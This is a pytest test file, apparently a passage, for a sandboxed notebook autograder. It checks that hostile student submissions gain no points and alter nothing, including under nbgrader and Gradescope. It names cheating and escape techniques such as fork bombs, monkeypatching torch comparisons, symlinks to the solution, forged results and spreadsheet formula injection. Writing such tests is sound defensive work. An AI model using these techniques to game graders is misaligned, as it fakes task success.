    subs = write_cases(tmp / CLASS_FOLDER, cases)
    FORGED.unlink(missing_ok=True)
    Path("/tmp/autograde-pwned").unlink(missing_ok=True)
    previous = os.environ.get("COURSE_DATA")
    os.environ["COURSE_DATA"] = str(data)
    try:
        before = fingerprint(tmp)
        ipc_before = sysv_ipc_objects()
        start = time.monotonic()
        with GradingRun(LIMITS, Options(**options)) as run:
            results = run.grade(subs)
        seconds = time.monotonic() - start
        peak_mb = run.peak_lane_mb
        ipc_after = sysv_ipc_objects()
        after = fingerprint(tmp)
    finally:
        if previous is None:
            os.environ.pop("COURSE_DATA", None)
        else:
            os.environ["COURSE_DATA"] = previous
    return Batch({r.student: r for r in results}, seconds, (before, after), peak_mb, (ipc_before, ipc_after))


@pytest.fixture(scope="module", params=["namespaces", "no namespaces"])
def graded(request, tmp_path_factory):
    """Every case in one batch, two lanes; with every protection the machine allows, then without namespaces."""
    options = {} if request.param == "namespaces" else {"disable": ("namespaces",)}
    return grade_cases(tmp_path_factory.mktemp("batch"), CASES, **options)


# ------------------------------------------------------------------------------------------ tests
def test_the_suite_covers_every_class_of_the_hardening_issue():
    names = {c.name for c in HOSTILE}
    assert len(names) == len(HOSTILE) >= 50


@pytest.mark.parametrize("c", [c for c in CASES if c.expected != "budget"], ids=lambda c: c.name)
def test_each_submission_gets_its_fair_score(graded, c):
    result = graded[0][c.id]
    got = {part: earned for part, (earned, _) in result.parts.items()}
    assert got == pytest.approx(expected_points(c)), (
        "\n".join(f"{o.part}: {o.description}: {o.message}" for o in result.outcomes if not o.passed)
        + "\n"
        + "\n".join(result.problems)
    )


def test_no_submission_gains_a_point_it_did_not_earn(graded):
    for c in CASES:
        if c.expected == "budget":
            continue
        result = graded[0][c.id]
        want = expected_points(c)
        for part, (earned, possible) in result.parts.items():
            assert 0 <= earned <= want[part] <= possible, (c.name, part)


def test_the_batch_loses_nothing_changes_nothing_and_stays_fast(graded):
    results, seconds, (before, after) = graded
    assert len(results) == len(CASES)  # one row per submitted file, whatever the file did
    for name in ("control_first", "control_middle", "control_last"):
        assert results[name].earned == results[name].possible, results[name].outcomes
    assert before["batch"] == after["batch"], "a submission or the course data changed"
    assert before["repository"] == after["repository"], "a file of the repository changed"
    assert before["python"] == after["python"], "a file of the Python installation changed"
    assert not FORGED.exists() and not Path("/autograder/results/results.json").exists()
    assert not Path("/tmp/autograde-pwned").exists()
    assert seconds < 300, f"the batch took {seconds:.0f} s"
    ipc_before, ipc_after = graded.ipc
    assert ipc_after == ipc_before, "a worker left SysV IPC objects behind"
    # the trusted side's memory is bounded whatever a reply holds (a reply of one string repeated 100,000 times cost
    # 6.3 GB before replies were read within what their bytes carry)
    assert graded.peak_lane_mb < PEAK_LANE_MB, f"a lane held {graded.peak_lane_mb:.0f} MiB"


def test_entries_that_are_not_notebook_files_are_one_row_each_and_never_followed(graded):
    results = graded[0]
    reasons = {
        "a_folder_named_like_a_notebook": "it is a folder",
        "a_fifo_named_like_a_notebook": "not a regular file",
        "links_to_a_classmates_notebook": "symbolic link",
        "links_to_the_solution": "symbolic link",
    }
    for name, words in reasons.items():
        assert words in results[name].error and results[name].earned == 0, results[name].error


def test_magic_heavy_cells_are_read_within_bounds(graded):
    for name in ("one_cell_of_500_magics", "four_cells_of_499_magics"):
        result = graded[0][name]
        assert result.seconds < 30, f"{name} took {result.seconds:.0f} s to grade"
        assert any("more than 100 IPython commands" in p for p in result.problems), result.problems


def test_switching_the_detector_off_is_marked_for_review_with_the_line(graded):
    result = graded[0]["switches_the_detector_off"]
    assert any("DisableTorchFunction" in r.line and "forbidden calls" in r.reason for r in result.review), result.review
    assert summary([result], 1.0)["marked_for_review"] == ["switches_the_detector_off"]
    assert "## Marked for review" in feedback_markdown(result) and "DisableTorchFunction" in feedback_markdown(result)
    honest = [c.id for c in CASES if not c.review and c.id in graded[0] and graded[0][c.id].review]
    assert not honest, f"marked for review without reason: {honest}"


def test_what_a_student_controls_is_inert_in_every_output(graded, tmp_path):
    results = list(graded[0].values())
    write_run(tmp_path, results, 1.0)
    rows = list(csv.reader((tmp_path / "grades.csv").open()))
    ids = [row[0] for row in rows[1:]]
    formula = next(i for i in ids if "HYPERLINK" in i)
    assert formula.startswith("'=") and not any(i[:1] in ("=", "+", "-", "@") for i in ids)
    folders = dict(zip((r.student for r in results), submission_folders(tmp_path, results), strict=True))
    assert len(set(folders.values())) == len(folders), "two students share an output folder"
    for student in ("Zo Smith", f"Zo_Smith-{ZO_HASH}"):
        data = json.loads((folders[student] / "results.json").read_text())
        assert data["extra_data"]["student"] == student and data["score"] == graded[0][student].earned
    newline = next(r for r in results if "\n" in r.student)
    markdown = (folders[newline.student] / "feedback.md").read_text()
    assert markdown.splitlines()[0].startswith("# Feedback on") and "\\n# Full marks" in markdown.splitlines()[0]
    assert (
        json.loads((folders[newline.student] / "results.json").read_text())["extra_data"]["student"] == newline.student
    )
    escapes = folders["escape_sequences_in_an_error"]
    for name in ("feedback.md", "feedback.html", "results.json"):
        assert "\x1b" not in (escapes / name).read_text() and "\x07" not in (escapes / name).read_text()
    assert "\\x1b[32m" in (escapes / "feedback.md").read_text()


def test_what_a_submission_stores_is_bounded_and_says_what_was_cut(graded, tmp_path):
    result = graded[0]["raises_huge_messages_in_400_cells"]
    assert result.earned == result.possible
    folder = write_submission(tmp_path, result, tmp_path / "huge")
    for name in ("feedback.md", "feedback.html", "results.json"):
        assert (folder / name).stat().st_size < 1_000_000, name
    assert "more problems were cut" in (folder / "feedback.md").read_text()
    assert "more characters were cut" in (folder / "feedback.md").read_text()


def test_a_submission_that_sleeps_is_stopped_by_its_time_budget(graded):
    result = graded[0]["sleeps_just_under_the_timeout"]
    assert any(i.kind == Kind.BUDGET.value for i in result.incidents)
    assert 0 < result.earned < result.possible
    assert result.seconds < LIMITS.submission_seconds + 3 * (LIMITS.timeout + LIMITS.grace) + 30
    assert any(o.kind is Kind.BUDGET for o in result.outcomes)


def test_messages_name_the_problem(graded):
    results = graded[0]

    def messages(name: str) -> str:
        return "\n".join([o.message for o in results[name].outcomes] + results[name].problems)

    assert "did not finish within 2 s" in messages("endless_loop_in_forward")
    assert "did not finish" in messages("endless_loop_at_definition")
    assert "syntax error on line" in messages("syntax_error")
    assert "No module named 'einops'" in messages("exception_at_import")
    assert "only runs on CUDA" in messages("cuda_hard_coded")
    assert "ended the grader's worker process" in messages("os_exit_in_forward")
    assert "exited with code 70" in messages("fakes_a_sandbox_setup_failure")
    assert "Operation not permitted" in messages("fork_bomb")
    assert "cannot read" in messages("sends_a_stride0_view")
    assert "was not read" in messages("statement_chain")
    assert "not valid notebook JSON" in messages("invalid_json")
    assert "not a Jupyter notebook" in messages("json_not_a_notebook")
    assert "F.scaled_dot_product_attention" in messages("builtin_by_getattr")
    assert any(i.kind == "timeout" for i in results["endless_loop_in_forward"].incidents)


def test_student_text_never_decides_a_kind_nor_poses_as_feedback(graded):
    results = graded[0]
    claims = results["claims_a_grader_error"]
    # Every pointed check that ran the raising forward says "error in student code"; the no-points diagnostic that
    # blames the student's own Attention for a model's difference is the grader's own finding (a wrong result).
    assert {o.kind for o in claims.outcomes if not o.passed and o.points} <= {Kind.STUDENT_ERROR}
    assert "grader error" not in summary([claims], 1.0)["failed_checks_by_kind"]
    text = feedback_markdown(results["markdown_in_an_error"])
    outside_fences = re.sub(r"(`{3,})text\n.*?\n *\1", "", text, flags=re.S)
    assert outside_fences.count("Score:") == 1 and "# Full marks" not in outside_fences
    assert "<script>" not in outside_fences


def test_monkeypatching_torch_earns_points_in_the_kernel_but_not_in_the_sandbox(graded):
    """The same submission, graded the nbgrader way (in its own process), fools the comparison."""
    saved = {name: getattr(torch, name) for name in ("allclose", "equal", "isfinite")}
    saved_assert_close = torch.testing.assert_close
    try:
        c = next(c for c in CASES if c.name == "monkeypatches_torch")
        in_kernel = in_process_points(A1, c.make(Path("/nonexistent")))
    finally:
        for name, fn in saved.items():
            setattr(torch, name, fn)
        torch.testing.assert_close = saved_assert_close
    isolated = graded[0]["monkeypatches_torch"]
    assert sum(in_kernel.values()) > isolated.earned
    assert isolated.parts["attention"][0] < catalog(A1).parts["attention"]


# ------------------------------------------------------------------------------ through nbgrader autograde
NBGRADER_CASES = [c for c in CASES if c.entry == "file" and c.expected != "budget" and c.student is None]


@pytest.fixture(scope="module")
def nbgrader_batch(tmp_path_factory):
    """The cases that are notebooks, as an nbgrader course's submissions, through `nbgrader autograde` with the
    course's default configuration: (points by case and part, the cases submitted, the course folders before and
    after, the repository before and after). nbgrader grades one notebook at a time, so the cases are dealt to two
    copies of the course, graded side by side as the batch's two lanes are, each by one `nbgrader autograde "*"`
    (nbgrader takes the assignment as a pattern: every assignment of the course, with one grading run each)."""
    from autograde import nbgrader_course as course_cli

    tmp = tmp_path_factory.mktemp("nbgrader")
    data = course_data_copy(tmp)
    classmates = tmp / CLASS_FOLDER
    write_cases(classmates, [next(c for c in CASES if c.name == "control_first")])
    assignments = sorted({c.assignment for c in NBGRADER_CASES})
    template = course_cli.make_course(tmp / "template")
    course_cli.generate_release(template, assignments)
    roots = [tmp / "course-a", tmp / "course-b"]
    for root in roots:
        shutil.copytree(template, root)
    made = tmp / "made"
    made.mkdir()
    submitted, to_grade = [], {root: set() for root in roots}
    for c in NBGRADER_CASES:
        nb = c.make(classmates)
        if isinstance(nb, bytes):
            continue  # not a notebook: nbgrader itself refuses it (tests/test_nbgrader_pipeline.py)
        root = roots[len(submitted) % 2]
        submitted.append(c.name)
        to_grade[root].add(c.assignment)
        nbformat.write(nb, made / f"{c.name}.ipynb")
        course_cli.submit(root, c.assignment, c.name, made / f"{c.name}.ipynb")
    own = ("course/autograded", "course/gradebook.db", "course/grading")
    before = [{k: v for k, v in _content_fingerprint(r).items() if not k.startswith(own)} for r in roots]
    repository = _content_fingerprint(REPO, (".git", ".venv", "__pycache__", ".pytest_cache", "grading", "outputs"))
    # the batch's limits, as nbgrader's configuration takes them (AUTOGRADE_<SETTING>), and the course data
    environment = {"COURSE_DATA": str(data)} | {
        settings.env_name(name): str(getattr(LIMITS, name)) for name in ("timeout", "memory_mb", "submission_seconds")
    }
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment.items():
            patch.setenv(name, value)
        with ThreadPoolExecutor(max_workers=2) as pool:  # nbgrader's assignment glob: every assignment in one run
            list(pool.map(lambda root: course_cli.nbgrader(root, "autograde", "*", "--force"), roots))
    after = [{k: v for k, v in _content_fingerprint(r).items() if not k.startswith(own)} for r in roots]
    points: dict[str, dict[str, float]] = {}
    for root in roots:
        for assignment in sorted(to_grade[root]):
            for score in course_cli.cell_scores(root, assignment):
                if score.cell.endswith("_tests"):
                    points.setdefault(score.student, {})[score.cell.removesuffix("_tests")] = score.auto_score
    repository_after = _content_fingerprint(
        REPO, (".git", ".venv", "__pycache__", ".pytest_cache", "grading", "outputs")
    )
    return points, submitted, (before, after), (repository, repository_after)


def test_nbgrader_autograde_gives_the_cases_the_same_fair_scores(nbgrader_batch):
    points, submitted, _, _ = nbgrader_batch
    assert sorted(points) == sorted(submitted)
    wrong = [
        f"{c.name}: nbgrader gave {points[c.name]}, fair is {expected_points(c)}"
        for c in NBGRADER_CASES
        if c.name in submitted and points[c.name] != pytest.approx(expected_points(c))
    ]
    assert not wrong, "\n".join(wrong)


def test_a_hostile_nbgrader_run_changes_nothing_but_nbgraders_own_outputs(nbgrader_batch):
    _, _, (before, after), (repository, repository_after) = nbgrader_batch
    assert after == before, "a file of the course folder changed (beyond nbgrader's own outputs)"
    assert repository_after == repository, "a file of the repository changed"


@pytest.fixture(scope="module")
def gradescope_package(tmp_path_factory) -> Path:
    from autograde.gradescope import build_autograder_zip

    return build_autograder_zip(tmp_path_factory.mktemp("zip") / "autograder.zip", A1, LIMITS)


@dataclass
class GradescopeRun:
    """One ``run_autograder`` of a case: its exit status and stderr, results.json, and the fingerprints of the
    repository and of the classmates' folder before and after."""

    returncode: int
    stderr: str
    results: dict | None
    before: dict
    after: dict


def run_on_gradescope(package: Path, tmp: Path, c: Case) -> GradescopeRun:
    """Grade ``c`` as Gradescope would: the package unzipped in a container of its own, the case its submission."""
    root = tmp / "autograder"
    with zipfile.ZipFile(package) as z:
        z.extractall(root / "source")
    (root / "submission").mkdir()
    (root / "results").mkdir()
    classmates = tmp / CLASS_FOLDER  # what the attacks aim at: the "classmates" of this container
    write_cases(classmates, [next(c for c in CASES if c.name == "control_first")])
    if c.entry == "file":
        nbformat.write(c.make(classmates), root / "submission" / "submission.ipynb")
    else:
        write_cases(root / "submission", [Case("submission", c.make, c.expected, entry=c.entry)])
    before = {"repository": fingerprint(tmp)["repository"], "classmates": _content_fingerprint(classmates)}
    # Gradescope runs each submission in Docker, where namespaces are not allowed
    env = {
        **os.environ,
        "AUTOGRADER_ROOT": str(root),
        "AUTOGRADER_PYTHON": sys.executable,
        "AUTOGRADE_DISABLE": "namespaces",
    }
    proc = subprocess.run(
        ["bash", str(root / "source" / "run_autograder")], env=env, capture_output=True, text=True, timeout=600
    )
    written = root / "results" / "results.json"
    after = {"repository": fingerprint(tmp)["repository"], "classmates": _content_fingerprint(classmates)}
    results = json.loads(written.read_text()) if written.is_file() else None
    return GradescopeRun(proc.returncode, proc.stderr, results, before, after)


@pytest.fixture(scope="module")
def gradescope_runs(gradescope_package, tmp_path_factory) -> dict[str, GradescopeRun]:
    """Every Gradescope case, two containers at a time (as the batch's two lanes): about 18 s each alone."""
    FORGED.unlink(missing_ok=True)
    cases = [next(c for c in CASES if c.name == name) for name in GRADESCOPE_CASES]
    with ThreadPoolExecutor(max_workers=2) as pool:
        runs = pool.map(lambda c: run_on_gradescope(gradescope_package, tmp_path_factory.mktemp(c.name), c), cases)
        return dict(zip(GRADESCOPE_CASES, runs, strict=True))


@pytest.mark.parametrize("name", GRADESCOPE_CASES)
def test_the_escapes_fail_through_gradescopes_run_autograder(gradescope_runs, name):
    c, run = next(c for c in CASES if c.name == name), gradescope_runs[name]
    assert run.returncode == 0 and run.results is not None, run.stderr[-3000:]
    if c.entry != "folder":  # a folder named like a notebook leaves no notebook to grade: no sandbox starts
        assert "on   private filesystem view" not in run.stderr and "on   Landlock" in run.stderr
    by_part = {part: 0.0 for part in catalog(c.assignment).parts}  # no notebook at all: no tests, no points
    for test in run.results["tests"]:
        part = test["name"].split(":")[0]
        by_part[part] += test["score"]
    assert by_part == pytest.approx(expected_points(c)), run.results["output"]
    assert run.before == run.after
    assert not FORGED.exists()
